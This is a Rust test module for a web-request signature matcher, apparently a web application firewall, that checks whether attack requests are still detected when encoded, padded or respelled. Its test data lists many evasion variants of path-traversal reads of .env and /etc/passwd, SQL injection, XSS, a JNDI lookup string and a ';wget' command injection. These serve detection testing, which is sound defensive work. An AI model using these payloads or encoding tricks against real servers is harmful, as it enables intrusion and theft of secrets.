//! Requests that mean the same to a server match the same signatures, however they are written.

use std::collections::{BTreeSet, HashSet};

use proptest::prelude::*;

use super::{matcher, shipped_files};
use crate::{
    Field, Hits, MAX_HITS, Matcher, Request, Scratch, Signature, condition::Check, expression::Compile,
};

fn found(matcher: &Matcher, request: &Request<'_>) -> Vec<String> {
    ids(matcher, &matcher.find(request, &mut Scratch::new()))
}

fn ids(matcher: &Matcher, hits: &Hits) -> Vec<String> {
    hits.iter()
        .map(|hit| matcher.signatures()[*hit as usize].id.clone())
        .collect()
}

#[test]
fn other_spellings_of_one_request_match_as_well() {
    let matcher = matcher();
    for (id, spellings) in [
        (
            "env-file",
            &[
                "/.env",
                "/.ENV",
                "/%2eenv",
                "/%2e%65%6e%76",
                "/%252eenv",
                "/a/../.env",
                "//.env",
                "/./.env",
                "/.env;v=1",
                "/x;y/.env",
                "/%c0%aeenv",
                "/%e0%80%aeenv",
                "/%f0%80%80%aeenv",
                "/\\.env",
                "/%5c.env",
                "/%u002eenv",
                "/%ef%bc%8eenv",
                "/.env%00.jpg",
                "/\\x2eenv",
                "/.env?x=1",
                "/.env#x",
                "http://example.org/.env",
                "/a%2f.env",
                "/a%252f.env",
                "/%2e/%2e/.env",
            ][..],
        ),
        (
            "sqli-union-select",
            &[
                "/?id=1+union+select+1",
                "/?id=1%20UNION%20SELECT%201",
                "/?id=1/**/union/**/select/**/1",
                "/?id=1%0aunion%0d%0aselect%091",
                "/?id=1%252f%252a%252a%252funion%2520select%25201",
                "/?id=1/*!50000union*/+/*!select*/+1",
                "/?id=1+un%69on+se%6cect+1",
                "/?id=1+uni%00on+sel%00ect+1",
                "/?id=1%a0union%a0select%a01",
                "/?id=1++union++++select+1",
                "/?id=1+union(select(1))",
                "/?id=1+%75%6e%69%6f%6e+select+1",
                "/?id=1+%u0075nion+select+1",
                "/?id=1\\x20union\\x20select\\x201",
            ],
        ),
        (
            "xss-script-tag",
            &[
                "/?q=<script>",
                "/?q=%3cscript%3e",
                "/?q=%253cscript%253e",
                "/?q=%u003cscript%u003e",
                "/?q=&lt;script&gt;",
                "/?q=&#60;script&#62;",
                "/?q=&#x3c;script&#x3e;",
                "/?q=%26%2360;script%3e",
                "/?q=%ef%bc%9cscript%ef%bc%9e",
                "/?q=\\u003cscript\\u003e",
                "/?q=%c0%bcscript%c0%be",
                "/?q=<ScRiPt%0a>",
                "/?q=<scr%00ipt>",
            ],
        ),
        (
            "passwd-file",
            &[
                "/../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/..%252f..%252fetc%252fpasswd",
                "/..%c0%af..%c0%afetc%c0%afpasswd",
                "/..\\..\\etc\\passwd",
                "/etc//passwd",
                "/etc/./passwd",
                "/etc/x/../passwd",
                "/?f=/etc/passwd%00.html",
                "/?f=%u002fetc%u002fpasswd",
            ],
        ),
    ] {
        for spelling in spellings {
            let request = Request {
                method: b"GET",
                target: spelling.as_bytes(),
                ..Request::default()
            };
            let found = found(matcher, &request);
            assert!(
                found.iter().any(|found| found == id),
                "{spelling} is {found:?}, not {id}"
            );
        }
    }
}

#[test]
fn who_pads_a_request_hides_nothing() {
    let matcher = matcher();
    let padding = "a=0123456789&".repeat(500);
    for target in [
        format!("/?{padding}id=1+union+select+1"),
        format!("/?id=1+union+select+1&{padding}"),
    ] {
        let request = Request {
            target: target.as_bytes(),
            ..Request::default()
        };
        assert!(found(matcher, &request).contains(&"sqli-union-select".to_owned()));
    }
    // Decoys that are looked into and lead to nothing.
    let decoys = format!("/?{}&id=1+union+select+1", "q=union+selects&".repeat(500));
    let request = Request {
        target: decoys.as_bytes(),
        ..Request::default()
    };
    let found = found(matcher, &request);
    let is_seen = |id: &str| found.iter().any(|found| found == id);
    assert!(
        is_seen("sqli-union-select") || is_seen("too-much-to-look-at"),
        "{found:?}"
    );
}

#[test]
fn what_is_excluded_excludes_only_where_the_path_leads() {
    const PHPUNIT: &str = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php";
    let matcher = matcher();
    for (target, id, expected) in [
        ("/o/r/src/branch/main/.env".to_owned(), "env-file", false),
        (
            "/o/r/src/branch/main/../../../../../.env".to_owned(),
            "env-file",
            true,
        ),
        (
            "/o/r/src/branch/main/..%2f..%2f..%2f..%2f..%2f.env".to_owned(),
            "env-file",
            true,
        ),
        ("/.env%00/src/branch/".to_owned(), "env-file", true),
        (format!("/o/r/blob/main{PHPUNIT}"), "phpunit-eval", false),
        // Servers run a script whatever stands behind it, unless that is how it names what it shows.
        (format!("{PHPUNIT}/svn/x"), "phpunit-eval", true),
        (format!("{PHPUNIT}%2fblob%2fmain/"), "phpunit-eval", true),
        // Scripts of Perl as well, but no folders with the name of a domain.
        ("/cgi-bin/a.pl/src/branch/main/.env".to_owned(), "env-file", true),
        ("/otrs/index.pl/src/branch/main/.env".to_owned(), "env-file", true),
        (
            "/shop.example.pl/src/branch/main/.env".to_owned(),
            "env-file",
            false,
        ),
        (
            format!("/index.php/shop/blob/main{PHPUNIT}"),
            "phpunit-eval",
            false,
        ),
    ] {
        let request = Request {
            target: target.as_bytes(),
            ..Request::default()
        };
        assert_eq!(
            found(matcher, &request).contains(&id.to_owned()),
            expected,
            "{target}"
        );
    }
}

/// Parts of paths below which shipped signatures of the path match nothing.
fn excluded_parts() -> Vec<String> {
    let mut taken = HashSet::new();
    let parsed = shipped_files()
        .into_iter()
        .flat_map(|file| file.parse(&mut taken, &mut Vec::new(), Compile::Now));
    let exclusions = parsed.flat_map(|parsed| parsed.none);
    let of_path = exclusions.filter(|condition| condition.fields.contains(&Field::Path));
    let values = of_path.flat_map(|condition| condition.values);
    let literals = values
        .filter(|value| matches!(value.check, Check::Contains))
        .flat_map(|value| value.literals);
    let parts: BTreeSet<_> = literals
        .map(|literal| String::from_utf8(literal).unwrap())
        .collect();
    parts.into_iter().collect()
}

#[test]
fn no_path_hides_what_a_query_has() {
    let matcher = matcher();
    let mut scratch = Scratch::new();
    let parts = excluded_parts();
    assert!(parts.len() > 40, "{parts:?}");
    let (mut tried, mut wrong) = (0, Vec::new());
    for (index, signature) in matcher.signatures().iter().enumerate() {
        let queries = signature
            .must
            .iter()
            .filter_map(|sample| Some((sample, sample.target.strip_prefix("/?")?)));
        for (sample, query) in queries {
            // Each part has its turn; front controllers and applications in a folder take them all.
            let part = &parts[tried % parts.len()];
            for target in [
                format!("/index.php{part}x?{query}"),
                format!("{part}?{query}"),
                format!("/loki/api/v1/query?{query}"),
            ] {
                tried += 1;
                let mut sample = sample.clone();
                sample.target = target;
                let hits = sample.with(|request| matcher.find(request, &mut scratch));
                if !hits.contains(&(index as u32)) && !hits.is_full() {
                    wrong.push(format!("{}: {}", signature.id, sample.target));
                }
            }
        }
    }
    assert!(tried > 500, "{tried}");
    assert!(wrong.is_empty(), "{} of them:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn no_query_hides_what_a_path_has() {
    let matcher = matcher();
    let mut scratch = Scratch::new();
    let mut wrong = Vec::new();
    for (index, signature) in matcher.signatures().iter().enumerate() {
        let of_path = signature
            .must
            .iter()
            .filter(|sample| !sample.target.contains(['?', '#']));
        for sample in of_path {
            let mut sample = sample.clone();
            sample.target.push_str("?q=a");
            let hits = sample.with(|request| matcher.find(request, &mut scratch));
            if !hits.contains(&(index as u32)) && !hits.is_full() {
                wrong.push(format!("{}: {}", signature.id, sample.target));
            }
        }
    }
    assert!(wrong.is_empty(), "{} of them:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_user_agent_that_was_seen_is_judged_as_before() {
    let matcher = matcher();
    let mut scratch = Scratch::new();
    for _ in 0..3 {
        for (agent, expected) in [("sqlmap/1.7", 1), ("curl/8", 0), ("${jndi:ldap://x}", 2), ("", 0)] {
            let request = Request {
                method: b"GET",
                target: b"/",
                user_agent: agent.as_bytes(),
                ..Request::default()
            };
            assert_eq!(matcher.find(&request, &mut scratch).len(), expected, "{agent}");
        }
    }
}

#[test]
fn what_was_seen_before_counts_towards_the_bound() {
    fn is_cut(target: &str, scratch: &mut Scratch) -> bool {
        let request = Request {
            target: target.as_bytes(),
            ..Request::default()
        };
        let hits = matcher().find(&request, scratch);
        ids(matcher(), &hits).iter().any(|id| id == "too-much-to-look-at")
    }
    // Much to compare, and no match.
    let path = format!("/{}", "x/etc/passwdx".repeat(20));
    let mut cut_together = 0;
    for times in 1..40 {
        let query = "q=union+selects&".repeat(times);
        let both = format!("{path}?{query}");
        let mut scratch = Scratch::new();
        let is_first_cut = is_cut(&both, &mut scratch);
        assert_eq!(is_cut(&both, &mut scratch), is_first_cut, "{times}");
        let is_query_cut = is_cut(&format!("/?{query}"), &mut Scratch::new());
        cut_together += usize::from(is_first_cut && !is_query_cut);
    }
    assert!(cut_together > 0);
    assert!(!is_cut(&path, &mut Scratch::new()));
}

#[test]
fn the_most_severe_are_told_first_and_no_more_than_fit() {
    let matcher = matcher();
    let request = Request {
        method: b"GET",
        target: b"/.env?id=1+union+select+1&x=<script>alert(1)</script>&y=${jndi:ldap://x}&f=/etc/passwd&c=;wget+http://x&p=phpinfo()&s={{7*7}}&z=xp_cmdshell&w=pg_sleep(5)",
        user_agent: b"sqlmap/1",
        ..Request::default()
    };
    let hits = matcher.find(&request, &mut Scratch::new());
    assert_eq!(hits.len(), MAX_HITS);
    let severities: Vec<_> = hits
        .iter()
        .map(|hit| matcher.signatures()[*hit as usize].severity)
        .collect();
    assert!(severities.is_sorted_by(|one, next| one >= next), "{severities:?}");
}

/// How a byte of a path or a query can be written.
fn spelled(byte: u8, how: u8, in_query: bool) -> String {
    match (how, byte) {
        (0, _) => format!("%{byte:02x}"),
        (1, _) => format!("%{byte:02X}"),
        (2, _) => format!("%25{byte:02x}"),
        (3, _) => format!("%u00{byte:02x}"),
        (4, b' ') if in_query => "+".to_owned(),
        (5, _) => char::from(byte).to_ascii_uppercase().to_string(),
        (6, 0x21..=0x7e) => format!("%c{:x}%{:02x}", byte >> 6, 0x80 | byte & 0x3f),
        _ => char::from(byte).to_string(),
    }
}

/// The target of one of a signature's samples, its letters and signs written otherwise.
fn respelled(target: &str, hows: &[u8]) -> String {
    let mut in_query = false;
    let spell = |(at, byte): (usize, u8)| {
        // The first question mark is one only as it stands, and what is encoded already stays as it is.
        in_query |= byte == b'?';
        let stays = matches!(byte, b'?' | b'%' | b'&' | b'=' | b'+' | b'\\') || (at == 0) || !byte.is_ascii();
        match stays {
            true => char::from(byte).to_string(),
            false => spelled(byte, hows[at % hows.len()], in_query),
        }
    };
    target.bytes().enumerate().map(spell).collect()
}

/// Those whose samples can be written otherwise: what they look for is no spelling itself.
fn samples(matcher: &Matcher) -> Vec<(usize, Signature)> {
    let signatures = matcher.signatures().iter().cloned().enumerate();
    signatures
        .filter(|(_, signature)| !signature.must.is_empty())
        .collect()
}

proptest! {
    #[test]
    fn what_matches_matches_however_it_is_encoded(which in 0_usize..10_000, hows in proptest::collection::vec(0_u8..12, 1..20)) {
        let matcher = matcher();
        let samples = samples(matcher);
        let (index, signature) = &samples[which % samples.len()];
        for sample in &signature.must {
            // Of absolute forms the scheme is none when it is encoded, and digits of an encoding are none when they are.
            let plain = sample.target.starts_with('/') && !sample.target.contains(['%', '\\', '&']);
            if !plain {
                continue;
            }
            let target = respelled(&sample.target, &hows);
            let mut written = sample.clone();
            written.target = target.clone();
            let hits = written.with(|request| matcher.find(request, &mut Scratch::new()));
            prop_assert!(hits.contains(&(*index as u32)) || hits.is_full(), "{} by {target}", signature.id);
        }
    }

    #[test]
    fn any_bytes_are_looked_at_and_bounded(line in proptest::collection::vec(any::<u8>(), 0..600)) {
        crate::check(&line);
    }
}
